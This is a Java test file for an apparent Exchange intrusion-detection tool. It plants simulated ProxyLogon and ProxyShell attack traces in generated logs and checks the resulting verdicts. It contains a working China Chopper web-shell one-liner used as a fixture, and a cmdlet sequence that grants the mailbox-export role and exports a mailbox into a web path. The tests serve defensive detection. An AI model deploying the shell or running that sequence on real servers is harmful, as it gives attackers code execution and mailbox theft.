package org.exhunt.hunt;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import org.exhunt.core.Compromise;
import org.exhunt.core.Finding;
import org.exhunt.core.ServerResult;
import org.exhunt.core.Stage;
import org.exhunt.core.Verdict;
import org.exhunt.evidence.DirectorySource;
import org.exhunt.hunt.rules.RulePack;
import org.exhunt.testkit.evtx.EventSamples;
import org.exhunt.testkit.evtx.EvtxWriter;
import org.exhunt.testkit.logs.LogGenerator;
import org.exhunt.testkit.logs.PlantedEvent;
import org.exhunt.testkit.pe.PeImage;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The whole chain from logs to verdicts: the rule pack's Sigma and YARA rules on generated logs with planted
 * attack steps, read by the real readers, decided by the real verdict logic.
 */
class ChainEvidenceInScanTest {

    private static final String INSTALL = "Program Files/Microsoft/Exchange Server/V15/";
    private static final Instant ATTACK = Instant.parse("2021-03-02T22:00:00Z");
    private static final String ATTACKER = "203.0.113.77";
    private static final String SHELL = "inetpub/wwwroot/aspnet_client/system_web/x5ka.aspx";
    private static final String CHOPPER = "<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"z\"],\"unsafe\");}</script>";

    @TempDir
    Path drive;

    @Test
    void proxyLogonFromSsrfToShellIsCompromisedAndTheShellIsLinked() throws IOException {
        server("15.1.2176.2", Instant.parse("2021-02-01T00:00:00Z"));
        PlantedEvent[] steps = {
            PlantedEvent.ProxyLogonSsrf.probe(ATTACK, ATTACKER, "EX01.contoso.local"),
            new PlantedEvent.OabWebShellWrite(ATTACK.plusSeconds(60), ATTACKER, "EX01.contoso.local"),
            new PlantedEvent.OabDownloadFailed(ATTACK.plusSeconds(90), "\\\\127.0.0.1\\c$\\" + SHELL.replace('/', '\\')),
            new PlantedEvent.WebShellRequest(ATTACK.plusSeconds(300), ATTACKER, "/" + SHELL.substring("inetpub/wwwroot/".length())),
        };
        write(LogGenerator.httpProxy("Ecp").start(ATTACK.minusSeconds(3600)).size(200_000).plant(steps));
        write(LogGenerator.ecpServer().start(ATTACK.minusSeconds(3600)).size(50_000).plant(steps));
        write(LogGenerator.oabGenerator().start(ATTACK.minusSeconds(3600)).size(20_000).plant(steps));
        write(LogGenerator.iis().start(ATTACK.minusSeconds(3600)).size(200_000).plant(steps));
        file(SHELL, CHOPPER);

        ServerResult r = scan();

        Verdict proxyLogon = row(r, "ProxyLogon");
        assertThat(proxyLogon.compromise()).as(proxyLogon.reason()).isEqualTo(Compromise.COMPROMISED);
        assertThat(row(r, "Post-exploitation").compromise()).as("the shell is ProxyLogon's").isEqualTo(Compromise.CLEAN);
        assertThat(r.findings()).extracting(Finding::ruleId).contains("EXHUNT_Chopper_JScript_Eval");
        assertThat(r.findings()).filteredOn(f -> "EXHUNT_Chopper_JScript_Eval".equals(f.ruleId())).singleElement()
                .satisfies(f -> assertThat(f.chain()).isEqualTo("ProxyLogon"));
        assertThat(r.findings()).filteredOn(f -> "sigma".equals(f.detector())).extracting(Finding::title)
                .anyMatch(t -> t.contains("CVE-2021-26855"))
                .anyMatch(t -> t.contains("CVE-2021-27065"))
                .anyMatch(t -> t.contains("CVE-2021-26858"));
        assertThat(r.facts().scan().timelines()).filteredOn(t -> t.row().equals("ProxyLogon")).singleElement()
                .satisfies(t -> assertThat(t.exploitClients()).contains(ATTACKER));
    }

    @Test
    void proxyShellAnsweredOnAPatchedServerIsStillReportedWithItsSource() throws IOException {
        server("15.1.2375.37", Instant.parse("2022-06-01T00:00:00Z"));
        Instant t = Instant.parse("2022-06-10T03:00:00Z");
        write(LogGenerator.iis().start(Instant.parse("2022-06-01T00:00:00Z")).size(100_000)
                .plant(new PlantedEvent.ProxyShell(t, ATTACKER, "admin@contoso.com", "powershell/")));

        ServerResult r = scan();

        Verdict proxyShell = row(r, "ProxyShell");
        assertThat(proxyShell.exposure()).isEqualTo(org.exhunt.core.Exposure.PATCHED);
        assertThat(proxyShell.compromise()).as("evidence wins over the build: " + proxyShell.reason())
                .isEqualTo(Compromise.COMPROMISED);
        assertThat(proxyShell.reason()).contains("of success from " + ATTACKER);
    }

    @Test
    void proxyShellsRoleGrantThenAnExportUnderAnotherNameIsOneSequenceFindingOfItsRow() throws IOException {
        server("15.2.858.5", Instant.parse("2021-08-01T00:00:00Z"));
        Instant t = Instant.parse("2021-08-21T03:12:41Z");
        String caller = "contoso.local/Users/Administrator";
        String session = "Remote-ManagementShell-Unknown";
        String process = "6892 w3wp#MSExchangePowerShellAppPool";
        Path log = drive.resolve("Windows/System32/winevt/Logs/MSExchange Management.evtx");
        Files.createDirectories(log.getParent());
        Files.write(log, EvtxWriter.toBytes(List.of(
                EventSamples.cmdlet(t, 1, "New-ManagementRoleAssignment",
                        "-Role \"Mailbox Import Export\" -User \"administrator@contoso.local\"", caller, session, process),
                // a folder and an extension the web-path rule does not know: only the sequence says what it is
                EventSamples.cmdlet(t.plusSeconds(40), 1, "New-MailboxExportRequest", "-Mailbox \"administrator@contoso.local\""
                        + " -FilePath \"\\\\EXCH01\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess"
                        + "\\ecp\\x4mfa.svc\"", caller, session, process))));

        ServerResult r = scan();

        assertThat(r.findings()).filteredOn(f -> f.ruleId().equals("b72bbd00-612a-41d7-bef6-e4776fdc690c")).singleElement()
                .satisfies(f -> {
                    assertThat(f.chain()).isEqualTo("ProxyShell");
                    assertThat(f.stage()).isEqualTo(Stage.SUCCESS);
                    assertThat(f.time()).isEqualTo(t.plusSeconds(40));
                    assertThat(f.linked()).hasSize(2);
                });
        assertThat(row(r, "ProxyShell").compromise()).isEqualTo(Compromise.COMPROMISED);
        assertThat(r.facts().scan().sigma().correlations()).isEqualTo(1);
    }

    private void server(String build, Instant logsFrom) throws IOException {
        Path exsetup = drive.resolve(INSTALL + "Bin/ExSetup.exe");
        Files.createDirectories(exsetup.getParent());
        int[] v = java.util.Arrays.stream(build.split("\\.")).mapToInt(Integer::parseInt).toArray();
        Files.write(exsetup, PeImage.exSetup(v[0], v[1], v[2], v[3]).bytes());
        file(INSTALL + "FrontEnd/HttpProxy/owa/auth/logon.aspx", "<%@ Page language=\"c#\" %>");
    }

    private void write(LogGenerator log) throws IOException {
        log.writeTo(drive.resolve(log.serverPath()));
    }

    private void file(String path, String content) throws IOException {
        Path p = drive.resolve(path);
        Files.createDirectories(p.getParent());
        Files.writeString(p, content);
    }

    private ServerResult scan() {
        return Hunt.with(RulePack.bundled(), HuntOptions.defaults()).scan("ex01", List.of(new DirectorySource(drive)));
    }

    private static Verdict row(ServerResult r, String name) {
        return r.verdicts().stream().filter(v -> v.row().equals(name)).findFirst().orElseThrow();
    }
}
